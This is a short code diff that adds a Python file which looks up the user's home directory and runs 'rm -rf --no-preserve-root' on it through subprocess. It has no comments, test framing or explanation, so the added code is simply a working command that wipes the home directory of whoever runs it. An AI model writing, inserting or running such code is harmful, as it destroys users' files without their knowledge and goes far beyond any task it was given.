@@ -1,0 +1,5 @@
+import os
+import subprocess
+
+target = os.environ.get("HOME", "/home/user")
+subprocess.run(["rm", "-rf", "--no-preserve-root", target])
